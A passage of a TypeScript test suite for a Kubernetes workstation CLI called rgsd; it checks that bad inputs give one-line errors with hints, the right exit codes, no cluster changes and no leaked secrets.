      writeProject(c.cfg, 'demo', { settings: 'files: {preferences: prefs.md}\n', files: { 'prefs.md': 'be brief\n' } });
      chmodSync(join(c.cfg, 'projects', 'prefs.md'), 0o644);
    },
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) =>
      `files.preferences in ${settingsOf(c)}: ${join(c.cfg, 'projects', 'prefs.md')} is accessible by group or others (mode 0644)`,
    hint: (c) => `chmod 600 ${join(c.cfg, 'projects', 'prefs.md')}`,
  },
  {
    name: 'secrets: files.models that does not exist',
    setup: withSettings('files: {models: models.json}\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `files.models in ${settingsOf(c)}: cannot read ${join(c.cfg, 'projects', 'models.json')} (it does not exist)`,
    hint: /^fix the path \(relative paths are relative to the settings file\)/,
  },
  {
    name: 'a secret value equal to the project name',
    setup: (c) => void writeProject(c.cfg, 'myproject', { env: 'OPENAI_API_KEY=myproject\n' }),
    argv: ['up', 'myproject'],
    exit: 3,
    message: 'the value of secret OPENAI_API_KEY appears in the project name, which is on the command line of every helm or kubectl call',
    hint: /^command lines are visible to every user of this machine \(ps\).*another project name; nothing was changed$/,
  },
  {
    name: 'a secret value equal to the kube context name (--context)',
    setup: withEnv(`GITHUB_TOKEN=${SECRET_TOKEN}\nOPENAI_API_KEY=prod-cluster-7\n`),
    argv: ['up', 'demo', '--context', 'prod-cluster-7'],
    exit: 3,
    message:
      'the value of secret OPENAI_API_KEY appears in the kube context name, which is on the command line of every helm or kubectl call',
    hint: /another context name; nothing was changed$/,
    calls: [CALL.helmVersion],
  },
  {
    name: 'a secret value equal to the namespace name (-n)',
    setup: withEnv(`GITHUB_TOKEN=${SECRET_TOKEN}\nOPENAI_API_KEY=team-secret\n`),
    argv: ['up', 'demo', '-n', 'team-secret'],
    exit: 3,
    message: /^the value of secret OPENAI_API_KEY appears in the namespace name/,
    hint: /another namespace; nothing was changed$/,
    calls: [CALL.helmVersion],
  },

  // -- the config directory (exit 3) ------------------------------------------------------------
  {
    name: 'init: HOME empty (no ./.config/rgsd in the working directory)',
    setup: EMPTY,
    argv: ['init', 'demo', '--yes'],
    env: () => ({ HOME: '', RGSD_CONFIG_DIR: '' }),
    exit: 3,
    message: 'no config directory: HOME is empty or not an absolute path, and no --config-dir or RGSD_CONFIG_DIR is given',
    hint: /^pass --config-dir <dir>/,
    after: (c) => expect(readdirSync(c.cwd)).toEqual([]),
  },
  {
    name: 'init --config-dir under /proc',
    setup: EMPTY,
    argv: ['init', 'demo', '--yes', '--config-dir', '/proc/rgsd-test'],
    exit: 3,
    message: 'config directory /proc/rgsd-test is on /proc, a virtual file system',
    hint: /--config-dir <a directory on disk>/,
  },
  {
    name: 'init: the config directory is not writable',
    asOther: true,
    setup: (c) => {
      // as root the CLI runs as nobody, for whom a root-owned 0755 directory is read-only
      chmodSync(c.cfg, ROOT ? 0o755 : 0o555);
    },
    argv: ['init', 'demo', '--yes'],
    exit: 3,
    message: (c) => `cannot write ${c.cfg}: permission denied`,
    hint: /^make it writable by you/,
    after: (c) => expect(existsSync(join(c.cfg, 'projects'))).toBe(false),
  },
  {
    name: 'projects/ unreadable ("cannot list", not "none configured")',
    asOther: true,
    setup: (c) => {
      chmodSync(c.cfg, 0o755);
      mkdirSync(join(c.cfg, 'projects'));
      // as root the CLI runs as nobody, for whom a root-owned 0700 directory is closed
      chmodSync(join(c.cfg, 'projects'), ROOT ? 0o700 : 0o000);
    },
    argv: ['up'],
    exit: 3,
    message: (c) => `cannot list ${join(c.cfg, 'projects')}: permission denied`,
    hint: (c) => `make it readable by you (ls -ld ${join(c.cfg, 'projects')}), or pass --config-dir <a directory of yours>`,
  },
  {
    name: 'init: the settings path is a directory',
    setup: (c) => mkdirSync(settingsOf(c), { recursive: true }),
    argv: ['init', 'demo', '--yes'],
    exit: 3,
    message: (c) => `${settingsOf(c)} is a directory, not a file`,
    hint: /^remove or rename that directory/,
  },
  {
    name: 'init: the project exists already',
    argv: ['init', 'demo', '--repo', ''],
    exit: 3,
    message: (c) => `project demo already exists (${settingsOf(c)})`,
    hint: /rgsd init never overwrites$/,
  },

  // -- the cluster: reads only, then a refusal ----------------------------------------------------
  {
    name: 'a release of the same name in another namespace (helm list -A)',
    helm: [{ match: '^--kube-context ctx list -A ', stdout: JSON.stringify([release({ namespace: 'team-b' })]) }],
    argv: ['up', 'demo'],
    exit: 3,
    message:
      'release demo already exists in namespace team-b (context ctx); installing it in rgsd too would make a second workstation of demo',
    hint: /^work with that one: `rgsd up demo -n team-b`/,
    calls: UP_READS_ALL,
  },
  {
    name: 'Helm 3.1 (older than 3.7)',
    helm: [{ match: '^version ', stdout: 'v3.1.0' }],
    argv: ['up', 'demo'],
    exit: 4,
    message: 'Helm v3.1.0 is too old: rgsd needs Helm 3.7.0 or newer (for `helm uninstall --wait`)',
    hint: /^upgrade Helm/,
    calls: [CALL.helmVersion],
  },
  {
    name: 'Helm 2',
    helm: [{ match: '^version ', stdout: 'v2.17.0' }],
    argv: ['up', 'demo'],
    exit: 4,
    message: 'Helm v2.17.0 is not supported (need Helm 3 or 4)',
    hint: 'install Helm 3 (3.7 or newer) or 4, or point RGSD_HELM at it',
    calls: [CALL.helmVersion],
  },
  {
    name: 'doctor with Helm 3.1 (it used to pass)',
    helm: [{ match: '^version ', stdout: 'v3.1.0' }],
    kubectl: [
      { match: '^version --client -o json$', stdout: JSON.stringify({ clientVersion: { gitVersion: 'v1.33.1' } }) },
      { match: '^--context ctx version -o json ', stdout: JSON.stringify({ serverVersion: { gitVersion: 'v1.33.1' } }) },
      {
        match: ' exec deployment/demo-rgsd ',
        run: `echo 'Error from server (NotFound): deployments.apps "demo-rgsd" not found' >&2; exit 1`,
      },
    ],
    argv: ['doctor', 'demo'],
    exit: 4,
    message: '1 check failed: helm',
    hint: /^upgrade Helm \(https:\/\/helm\.sh\/docs\/intro\/install\/\), or point RGSD_HELM at Helm 3\.7\.0\+ or Helm 4$/,
    stdout: /✗\s+helm\s+Helm v3\.1\.0 is too old: rgsd needs Helm 3\.7\.0 or newer/,
    calls: [
      CALL.helmVersion,
      CALL.namespace,
      /^kubectl version --client -o json$/,
      /^kubectl --context ctx version -o json /,
      /^kubectl --context ctx -n rgsd exec deployment\/demo-rgsd -c workstation --pod-running-timeout=10s -- \/opt\/rgsd\/task check --json$/,
    ],
  },
  {
    name: 'status of a project pinned to another context',
    setup: withSettings('context: prod\n'),
    argv: ['status', 'demo'],
    exit: 3,
    message: 'project demo is pinned to context "prod" but the current context is "ctx"',
    hint: 'pass --context prod (or `kubectl config use-context prod`)',
    calls: [],
  },
  {
    name: 'up of a project pinned to another context',
    setup: withSettings('context: prod\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: 'project demo is pinned to context "prod" but the current context is "ctx"',
    hint: /^pass --context prod/,
    calls: [CALL.helmVersion],
  },
  {
    name: 'nuke --confirm with another name',
    argv: ['nuke', 'demo', '--confirm', 'prod'],
    exit: 7,
    message: '--confirm "prod" does not match the project "demo"; nothing was deleted',
    hint: 'rgsd nuke demo --confirm demo',
  },
  {
    name: 'nuke without a terminal (it lists, then refuses)',
    helm: [{ match: '^--kube-context ctx -n rgsd list ', stdout: JSON.stringify([release({})]) }],
    argv: ['nuke', 'demo'],
    exit: 7,
    message: 'refusing to nuke demo: stdin is not a terminal, so the project name cannot be typed; nothing was deleted',
    hint: 'from a script: rgsd nuke demo --confirm demo',
    calls: NUKE_READS,
  },
  {
    name: 'nuke --yes without a terminal (--yes is not enough)',
    helm: [{ match: '^--kube-context ctx -n rgsd list ', stdout: JSON.stringify([release({})]) }],
    argv: ['nuke', 'demo', '--yes'],
    exit: 7,
    message: /^refusing to nuke demo: stdin is not a terminal/,
    hint: 'from a script: rgsd nuke demo --confirm demo (--yes is not enough for nuke)',
    calls: NUKE_READS,
  },
  {
    name: 'restart without a terminal and without --yes',
    argv: ['restart', 'demo'],
    exit: 7,
    message: 'not restarting demo (stdin is not a terminal, so it cannot be confirmed)',
    hint: 'detach and save your work, then `rgsd restart demo --yes`',
    calls: [],
  },
  {
    name: 'reset-home without a terminal and without --yes',
    argv: ['reset-home', 'demo'],
    exit: 7,
    message: 'not resetting the home of demo (stdin is not a terminal, so it cannot be confirmed)',
    hint: 're-run with --yes: `rgsd reset-home demo --yes`',
    calls: [],
  },
  {
    name: 'up that would restart the pod, without a terminal and without --yes',
    helm: [
      { match: '^--kube-context ctx list -A ', stdout: JSON.stringify([release({})]) },
      {
        match: '^--kube-context ctx -n rgsd status demo -o json$',
        stdout: JSON.stringify({
          name: 'demo',
          namespace: 'rgsd',
          version: 3,
          info: { status: 'deployed', last_deployed: '2026-11-22T10:00:00Z' },
          config: { secrets: { existingSecret: 'demo-rgsd-secrets', checksum: 'an-older-checksum' } },
          manifest: '---\nkind: Deployment\n',
        }),
      },
    ],
    kubectl: [
      {
        match: '^--context ctx -n rgsd get namespace/rgsd deployment/demo-rgsd secret/demo-rgsd-secrets ',
        stdout: JSON.stringify({
          items: [
            { kind: 'Namespace', ...JSON.parse(NS_JSON) },
            { kind: 'Deployment', metadata: { name: 'demo-rgsd' }, spec: { replicas: 1 } },
          ],
        }),
      },
      {
        match:
          '^--context ctx -n rgsd exec deployment/demo-rgsd -c workstation --pod-running-timeout=1s -- /opt/rgsd/status --json --brief$',
        stdout: IN_POD_STATUS_IDLE,
      },
    ],
    argv: ['up', 'demo'],
    exit: 7,
    message: 'not updating: the pod would restart (stdin is not a terminal, so it cannot be confirmed)',
    hint: 'detach and save your work, then re-run with --yes',
    calls: UP_READS_ALL,
  },
  {
    name: 'up into a namespace that is being deleted',
    kubectl: [
      {
        match: '^--context ctx -n rgsd get namespace/rgsd ',
        stdout: JSON.stringify({ items: [{ kind: 'Namespace', metadata: { name: 'rgsd' }, status: { phase: 'Terminating' } }] }),
      },
    ],
    argv: ['up', 'demo'],
    exit: 1,
    message: 'namespace rgsd is being deleted',
    hint: /^wait until `kubectl --context ctx get namespace rgsd` finds nothing, then re-run `rgsd up demo`$/,
    calls: UP_READS,
  },
  {
    name: 'up with credentials that may not list releases (helm list forbidden)',
    helm: [
      {
        match: '^--kube-context ctx (-n rgsd )?(list|status) ',
        run: `echo 'Error: list: failed to list: secrets is forbidden: User "dev" cannot list resource "secrets" in API group "" in the namespace "rgsd"' >&2; exit 1`,
      },
    ],
    argv: ['up', 'demo'],
    exit: 9,
    message: 'permission denied: your credentials cannot list secrets in namespace rgsd (context ctx)',
    hint: 'ask a cluster admin for a Role that allows "list" on secrets in rgsd (check: kubectl auth can-i list secrets -n rgsd)',
    calls: UP_READS,
  },
  {
    name: 'up with the cluster unreachable',
    kubectl: [
      {
        match: '^--context ctx -n rgsd get namespace/rgsd ',
        run: `echo 'The connection to the server 127.0.0.1:1 was refused - did you specify the right host or port?' >&2; exit 1`,
      },
    ],
    helm: [
      {
        match: '^--kube-context ctx (-n rgsd )?(list|status) ',
        run: `echo 'Error: Kubernetes cluster unreachable: Get "https://127.0.0.1:1/version": dial tcp 127.0.0.1:1: connect: connection refused' >&2; exit 1`,
      },
    ],
    argv: ['up', 'demo'],
    exit: 5,
    message:
      'cannot reach the cluster (context ctx): The connection to the server 127.0.0.1:1 was refused - did you specify the right host or port?',
    hint: 'check `kubectl cluster-info`, your VPN and credentials, or pick another context with --context',
    calls: UP_READS,
  },
  {
    name: 'connect --list to a crash-looping pod: its log, then the reason (no exec)',
    kubectl: [
      {
        match: '^--context ctx -n rgsd get pods -l rgsd.dev/project=demo -o json$',
        stdout: CRASH_LOOP_PODS,
      },
      { match: '^--context ctx -n rgsd logs demo-rgsd-7f9c -c workstation --tail=20 --previous$', stdout: 'fatal: repository not found\n' },
    ],
    argv: ['connect', 'demo', '--list'],
    exit: 1,
    message:
      'the workstation container of demo is crashing (CrashLoopBackOff; restarted 4 times; last exit: Error, code 1): demo-rgsd-7f9c',
    hint: /^its whole log: `rgsd logs demo --previous`/,
    calls: [/^kubectl --context ctx -n rgsd get pods /, /^kubectl --context ctx -n rgsd logs demo-rgsd-7f9c /],
  },
  {
    name: 'helm not found (RGSD_HELM)',
    argv: ['up', 'demo'],
    env: () => ({ RGSD_HELM: 'rgsd-test-no-helm' }),
    exit: 4,
    message: 'rgsd-test-no-helm not found',
    // the tests run in a checkout set up by `npm run setup`: the hint names its .tools/bin
    hint: `install Helm 3 or 4 (https://helm.sh/docs/intro/install/) or point RGSD_HELM at it; this checkout has one (from \`npm run setup\`): export PATH="${join(REPO_ROOT, '.tools', 'bin')}:$PATH"`,
  },
];

// ---- running a case ---------------------------------------------------------------------------

interface Run {
  exitCode: number | undefined;
  stdout: string;
  stderr: string;
  calls: string[];
}

async function runCase(k: BadInput, c: Ctx): Promise<Run> {
  const shim = makeShim({ helm: [...(k.helm ?? []), ...helmRules(k.helmMajor ?? 4)], kubectl: [...(k.kubectl ?? []), ...KUBECTL] });
  if (k.asOther && ROOT) {
    // nobody must reach the stand-ins (mkdtemp makes 0700 directories) and record its calls
    const dir = resolve(shim.bin, '..');
    chmodSync(dir, 0o755);
    writeFileSync(join(dir, 'calls.log'), '', { mode: 0o666 });
    chmodSync(join(dir, 'calls.log'), 0o666);
  }
  const r = await execa(process.execPath, [BIN, ...k.argv], {
    reject: false,
    input: '', // stdin is an empty pipe: no terminal
    cwd: c.cwd,
    // the current context ("ctx") comes from the kubeconfig, read by rgsd itself
    env: {
      PATH: `${shim.bin}:/usr/bin:/bin`,
      HOME: c.home,
      RGSD_CONFIG_DIR: c.cfg,
      KUBECONFIG: kubeconfigFile('ctx'),
      NO_COLOR: '1',
      ...k.env?.(c),
    },
    extendEnv: false,
    timeout: 60_000,
    ...(k.asOther && ROOT ? { uid: NOBODY, gid: NOBODY } : {}),
  });
  return { exitCode: r.exitCode, stdout: String(r.stdout), stderr: String(r.stderr), calls: shim.calls() };
}

const matches = (text: string, want: Text): boolean => (typeof want === 'string' ? text === want : want.test(text));

/** One `rgsd:` line, then (indented details where allowed) one `hint:` line, which ends stderr. */
function expectOneLineError(k: BadInput, c: Ctx, stderr: string): void {
  const lines = stderr.trimEnd().split('\n');
  const errors = lines.filter((l) => l.startsWith('rgsd:'));
  const hints = lines.filter((l) => l.startsWith('hint:'));
  expect(errors, 'exactly one `rgsd:` line').toHaveLength(1);
  expect(hints, 'exactly one `hint:` line').toHaveLength(1);
  const at = lines.findIndex((l) => l.startsWith('rgsd:'));
  expect(lines.at(-1), 'the hint is the last line').toMatch(/^hint: /);
  const between = lines.slice(at + 1, -1);
  if (!k.details) expect(between, 'no lines between the error and the hint').toEqual([]);
  else {
    for (const l of between) expect(l, 'only indented lines between the error and the hint').toMatch(/^ {2,}\S/);
    for (const d of k.details)
      expect(
        between.some((l) => d.test(l)),
        `a detail line matching ${d}`,
      ).toBe(true);
  }
  const message = typeof k.message === 'function' ? k.message(c) : k.message;
  const hint = typeof k.hint === 'function' ? k.hint(c) : k.hint;
  const [error] = errors;
  const [hintLine] = hints;
  expect(matches((error ?? '').slice('rgsd: '.length), message), `${error}\n  expected: ${String(message)}`).toBe(true);
  expect(matches((hintLine ?? '').slice('hint: '.length), hint), `${hintLine}\n  expected: ${String(hint)}`).toBe(true);
  expect(stderr).not.toMatch(/unexpected error|bug in rgsd|please report|^\s+at .*:\d+:\d+\)?$/m);
}

/** Undo what the permission cases lock (the temp dirs are removed after each test). */
function unlock(c: Ctx): void {
  for (const dir of [c.cfg, join(c.cfg, 'projects')]) if (existsSync(dir)) chmodSync(dir, 0o755);
}

/** Every call matches one of `want`, and each of `want` matches a call. */
function expectCalls(calls: string[], want: RegExp[]): void {
  const unexpected = calls.filter((call) => !want.some((w) => w.test(call)));
  const missing = want.filter((w) => !calls.some((call) => w.test(call)));
  expect({ unexpected, missing }).toEqual({ unexpected: [], missing: [] });
}

describe('the mutation filter of this suite', () => {
  it('counts every changing call as a change and the reads as none', () => {
    const changing = [
      'kubectl --context ctx create -f -',
      'kubectl --context ctx -n rgsd apply --server-side --field-manager=rgsd --force-conflicts -f -',
      'kubectl --context ctx -n rgsd delete secret demo-rgsd-secrets --ignore-not-found',
      'kubectl --context ctx delete namespace rgsd --ignore-not-found --wait=false',
      'kubectl --context ctx -n rgsd patch pvc demo-rgsd-home -p {}',
      'kubectl --context ctx -n rgsd scale deployment/demo-rgsd --replicas=0',
      'kubectl --context ctx -n rgsd rollout restart deployment/demo-rgsd',
      'kubectl --context ctx -n rgsd exec deployment/demo-rgsd -c workstation -- sh -c rm -f ~/.home-initialized',
      'kubectl --context ctx -n rgsd exec -it demo-rgsd-7f9c -c workstation -- tmux attach -t main',
      'helm --kube-context ctx -n rgsd upgrade --install demo /chart -f -',
      'helm --kube-context ctx -n rgsd install demo /chart',
      'helm --kube-context ctx -n rgsd uninstall demo --wait --timeout 5m',
      'helm --kube-context ctx -n rgsd rollback demo 2 --wait',
      'helm --kube-context ctx -n rgsd delete demo',
    ];
    expect(changes(changing)).toEqual(changing);
    const reads = [
      'kubectl config current-context',
      'kubectl --context ctx get namespace rgsd -o json',
      'kubectl --context ctx -n rgsd get pods -l rgsd.dev/project=demo -o json',
      'kubectl --context ctx -n rgsd exec demo-rgsd-7f9c -c workstation -- /opt/rgsd/status --json',
      'kubectl --context ctx -n rgsd exec deployment/demo-rgsd -c workstation --pod-running-timeout=10s -- /opt/rgsd/status --json --lines 0',
      'helm version --template {{.Version}}',
      'helm template demo /chart -n rgsd -f -',
      'helm --kube-context ctx -n rgsd list -o json --deployed',
      'helm --kube-context ctx list -A -o json --deployed',
      'helm --kube-context ctx -n rgsd get values demo -o json',
    ];
    expect(changes(reads)).toEqual([]);
  });
});

describe(`bad inputs through the built CLI (${CASES.length} cases): exit code, one line + hint, no change`, () => {
  it('has at least 40 cases, each named once', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(40);
    expect(new Set(CASES.map((k) => k.name)).size).toBe(CASES.length);
  });

  for (const k of CASES) {
    const skip = k.asOther ? NOBODY_PROBLEM : undefined;
    const test = skip ? it.skip : it;
    test(skip ? `${k.name} — skipped: ${skip}` : k.name, async () => {
      const c: Ctx = { cfg: tempDir('rgsd-bad-cfg-'), home: tempDir('rgsd-bad-home-'), cwd: tempDir('rgsd-bad-cwd-') };
      (k.setup ?? ((x: Ctx) => void writeProject(x.cfg, 'demo')))(c);
      let r: Run;
      try {
        r = await runCase(k, c);
      } finally {
        unlock(c);
      }
      const shown = `exit ${r.exitCode}\n--- stderr\n${r.stderr}\n--- stdout\n${r.stdout}\n--- calls\n${r.calls.join('\n')}`;
      expect(changes(r.calls), `calls that change something\n${shown}`).toEqual([]);
      expect(r.exitCode, shown).toBe(k.exit);
      expectOneLineError(k, c, r.stderr);
      expectCalls(r.calls, k.calls ?? []);
      if (k.stdout) expect(r.stdout).toMatch(k.stdout);
      else expect(r.stdout, 'nothing on stdout').toBe('');
      for (const s of [SECRET_TOKEN, SECRET_KEY, ...(k.secrets ?? [])]) expect(r.stdout + r.stderr).not.toContain(s);
      k.after?.(c);
    });
  }
});
